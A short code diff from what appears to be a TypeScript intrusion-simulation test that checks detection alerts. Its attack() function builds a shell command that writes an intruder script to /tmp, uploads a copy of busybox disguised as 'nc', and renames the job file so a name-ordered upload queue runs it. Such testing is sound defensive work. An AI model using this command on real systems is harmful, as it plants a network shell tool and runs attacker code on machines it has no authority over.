@@ -128,10 +128,10 @@ export async function story(stage: Stage): Promise<Sum> {
   return { ...counts, alerts, recycles: 1 };
 }
 
-/** The intruder's calls: a copy of busybox named nc, then the script that uses it. */
+/** The intruder's calls: a copy of busybox named nc, then the script that uses it (the shop takes uploads in order of their names). */
 function attack(address: string): string {
   const script = intruderScript(address).replaceAll('\n', '\\n');
-  return `printf '${script}' > /tmp/go.job && /put.sh /bin/busybox nc && /put.sh /tmp/go.job go.job`;
+  return `printf '${script}' > /tmp/run.job && /put.sh /bin/busybox nc && /put.sh /tmp/run.job run.job`;
 }
 
 async function alertsOf(client: Client): Promise<readonly Alert[]> {
